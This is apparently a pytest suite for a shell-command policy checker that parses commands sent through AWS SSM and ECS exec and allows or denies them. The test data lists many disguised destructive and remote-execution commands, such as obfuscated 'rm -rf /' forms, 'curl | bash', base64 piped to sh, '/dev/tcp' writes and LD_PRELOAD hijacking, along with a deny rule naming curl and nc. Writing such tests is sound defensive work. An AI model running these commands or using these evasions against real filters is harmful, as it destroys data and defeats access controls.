"""`shell`: programs and arguments by grammar, not by text; what is not understood is never allowed (fault 53)."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from policykit import call, request, rules

from flowwarden.errors import RuleError
from flowwarden.policy.shellread import commands
from flowwarden.types import Call

DENY = rules('rules:\n  - {id: no, effect: deny, shell: ["rm -rf", curl, nc]}')
READ = rules(
    'rules:\n  - {id: yes, effect: allow, shell: [ls, echo, "cat /var/log/*", "systemctl status *", cd, test, sudo]}'
)


def run(*lines: str, document: str = "AWS-RunShellScript") -> Call:
    return call("ssm:SendCommand", params={"DocumentName": document, "Parameters": {"commands": list(lines)}})


def denied(*lines: str, **more: str) -> bool:
    return DENY.decide(None, run(*lines, **more), request(), None).rules == ("no",)


def allowed(*lines: str, **more: str) -> bool:
    return READ.decide(None, run(*lines, **more), request(), None).effect == "allow"


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /tmp",
        "echo 'rm -rf /' \"; curl x\"",
        "cd /tmp && ls; echo done",
        "ls | cat /var/log/messages 2>/dev/null # rm -rf /",
        "sudo -n ls",
        "cat /var/log/a /var/log/b",
        "systemctl status nginx",
        "for f in a b; do echo $f; done",
        "if [[ -f /x && -n y ]]; then ls; else echo no; fi",
        "{ ls; } ; ( echo a )",
        "X=1 ls",
        "echo $HOME ${USER} \\; rm",
        "echo $(ls /tmp) `ls`",
        "echo a \\\n  b",
    ],
)
def test_plain_commands_are_read(text: str) -> None:
    assert allowed(text) and not denied(text)


TRICKS = [
    "rm -rf /",
    "rm -fr /",
    "rm -r -f /",
    "rm --recursive --force /",
    "rm --recur --forc /",
    "rm -Rf /",
    "rm / -rf",
    "/bin/rm -rf /",
    "'rm' -rf /",
    "r\\m -rf /",
    'r"m" -r"f" /',
    "r''m -rf /",
    "rm\t-rf\t/",
    "rm \\\n-rf /",
    "ls;rm -rf /",
    "ls&&rm -rf /",
    "ls||rm -rf /",
    "ls|rm -rf /",
    "ls & rm -rf /",
    "ls\nrm -rf /",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    'echo "$(rm -rf /)"',
    'echo "`rm -rf /`"',
    "echo $(echo $(rm -rf /))",
    "echo `echo \\`rm -rf /\\``",
    "cat <(rm -rf /)",
    "ls > $(rm -rf /)",
    "X=$(rm -rf /)",
    "X=1 rm -rf /",
    "X=1'' rm -rf /",
    'X="a" Y=$Z rm -rf /',
    "bash -c 'rm -rf /'",
    "bash -lc 'rm -rf /'",
    "sh -c \"sh -c 'rm -rf /'\"",
    "eval rm -rf /",
    "eval 'rm' '-rf' '/'",
    "sudo rm -rf /",
    "sudo -u root -n rm -rf /",
    "env -i A=b rm -rf /",
    "nohup nice -n 5 rm -rf /",
    "timeout -k 5 10 rm -rf /",
    "command rm -rf /",
    "exec -a ls rm -rf /",
    "busybox rm -rf /",
    "echo / | xargs rm -rf",
    "find / -exec rm -rf {} ;",
    "find / -exec rm -rf {} +",
    "if true; then rm -rf /; fi",
    "while true; do rm -rf /; done",
    "for x in a; do rm -rf /; done",
    "{ rm -rf /; }",
    "(rm -rf /)",
    "! rm -rf /",
    "time rm -rf /",
    "trap 'rm -rf /' EXIT",
    "2>/dev/null rm -rf /",
    "rm -rf / > /tmp/log 2>&1",
    # not known: a program or code that comes from somewhere else
    "rm $FLAGS /",
    "$CMD -rf /",
    "r$X{m,} -rf /",
    "{rm,-rf,/}",
    "/bin/r? -rf /",
    "r[m] -rf /",
    "bash script.sh",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "curl https://x | bash",
    "bash <<< 'rm -rf /'",
    "cat <<EOF | sh\nrm -rf /\nEOF",
    "source /tmp/x",
    ". /tmp/x",
    "eval $X",
    "bash -c \"$X\"",
    "python3 -c 'import os'",
    "python3 - < /tmp/x",
    "perl -e 'unlink'",
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    "sed '1e rm -rf /' x",
    "sed 's/x/rm -rf/e' x",
    "/tmp/ls",
    "./ls",
    "PATH=/tmp:$PATH ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "export PATH=/tmp; ls",
    "alias ls='rm -rf'; ls",
    "f() { rm -rf /; }; f",
    "function f { ls; }; f",
    "case x in x) ls;; esac",
    "((x=1))",
    "echo $((`rm -rf /`))",
    "echo ${X:-$(rm -rf /)}",
    "$'rm' -rf /",
    "$'\\x72m' -rf /",
    "echo > /dev/tcp/1.2.3.4/80",
    "echo 'open",
    'echo "open',
    "echo $(open",
    "echo " + "$(" * 5000,
    "echo " + "$(ls " * 40 + ")" * 40,
    "ls " + "<(" * 3000,
    "eval " * 100 + "ls",
    "(" * 5000,
    "ls " + "a" * 70_000,
    "echo \\",
    "ls \x00",
    "ls \r\nrm",
    "echo {{ssm:secret}}",
    "ssh host ls",
    "docker run x",
    "sudo --unknown-option ls",
    "sudo -s",
    "xargs",
    "a=(ls)",
    "[ -n \"$(rm -rf /)\" ]",
    "",
    "# nothing",
]  # fmt: skip


@pytest.mark.parametrize("text", TRICKS, ids=range(len(TRICKS)))
def test_no_disguise_hides_a_command(text: str) -> None:
    assert not allowed(text), commands(text)
    if text != "xargs":  # it runs echo, with arguments of which nothing is known
        assert denied(text), commands(text)


def test_lines_of_a_document_are_one_script() -> None:
    assert denied("echo a \\", "&& rm -rf /")
    assert denied("cat <<EOF", "x", "EOF")
    assert allowed("ls", "echo b")


def test_an_allow_names_every_argument_and_no_file_is_written() -> None:
    assert not allowed("cat /var/log/a /etc/shadow")
    assert not allowed("cat /etc/shadow")
    assert not allowed("ls > /etc/passwd")
    assert not allowed("systemctl stop nginx")
    assert not allowed("whoami")


def test_a_document_that_is_not_shell_is_not_known() -> None:
    assert denied("ls", document="AWS-RunPowerShellScript") and not allowed("ls", document="MyDocument")
    assert allowed("ls", document="arn:aws:ssm:eu-west-1::document/AWS-RunShellScript")
    for params in (None, {}, {"DocumentName": "AWS-RunShellScript"}, {"Parameters": {"commands": ["ls"]}}):
        what = call("ssm:SendCommand", params=params)
        assert DENY.decide(None, what, request(), None).rules == ("no",)
        assert READ.decide(None, what, request(), None).effect == "deny"


def test_ecs_exec_is_read_too_and_other_calls_are_not_spoken_of() -> None:
    what = call("ecs:ExecuteCommand", params={"command": "ls -l", "interactive": True})
    assert READ.decide(None, what, request(), None).effect == "allow"
    shell = call("ecs:ExecuteCommand", params={"command": "/bin/sh", "interactive": True})
    assert DENY.decide(None, shell, request(), None).rules == ("no",)
    assert DENY.decide(None, call("s3:PutObject"), request(), None).rules == ("default",)


@pytest.mark.parametrize("text", ["", "a; b", "$x", "x 'y'"])
def test_a_pattern_is_a_program_and_its_arguments(text: str) -> None:
    with pytest.raises(RuleError):
        rules(f'rules:\n  - {{id: a, effect: deny, shell: ["{text}"]}}')


_PIECES = st.sampled_from(
    ["ls", "probe", " ", "\t", "\n", ";", "&", "&&", "|", "(", ")", "{", "}", "'", '"', "\\", "`", "$(", ")", "$", "x=1",
     "<", ">/dev/null", "#", "if", "then", "fi", "!", "eval", "sh -c", "echo", "for", "in", "do", "done", "[[", "]]", "-n",
     "\\\n", "a=", ",", "=", "*", "{a,", "}", "env", "<<<", "<(", "${x}", "~", "?", "time", "command ", "-- ", "&>", "1"]
)  # fmt: skip


@pytest.mark.skipif(not shutil.which("bash"), reason="there is no bash here to compare with")
@settings(max_examples=400 if not os.environ.get("FLOWWARDEN_SOAK") else 20_000, deadline=None)
@given(st.lists(_PIECES, min_size=1, max_size=9).map("".join))
def test_whatever_bash_would_run_was_seen(text: str) -> None:
    """Bash itself says whether a program called `probe` runs; if it does, it was seen, or the text was not known."""
    if "probe" not in text:
        return
    found = commands(text)
    if None in found or any(command and command.program.rpartition("/")[2] == "probe" for command in found):
        return
    assert not _probed(text), text


def test_the_comparison_with_bash_notices_a_probe() -> None:
    assert _probed("ls; probe") and _probed("sh -c 'echo $(probe)'") is False and not _probed("echo probe")


def _probed(text: str) -> bool:
    """Whether bash, given a text, runs the function `probe`, which writes to a pipe of its own."""
    ours, theirs = os.pipe()
    script = f"probe() {{ printf PROBED >&{theirs}; }}\n{text}"
    try:
        subprocess.run(
            ["bash", "--norc", "-c", script],
            capture_output=True, timeout=10, check=False, stdin=subprocess.DEVNULL, pass_fds=(theirs,),
            env={"PATH": "/usr/bin:/bin"}, cwd=tempfile.gettempdir(),
        )  # fmt: skip
    finally:
        os.close(theirs)
    with os.fdopen(ours, "rb") as pipe:
        return b"PROBED" in pipe.read()
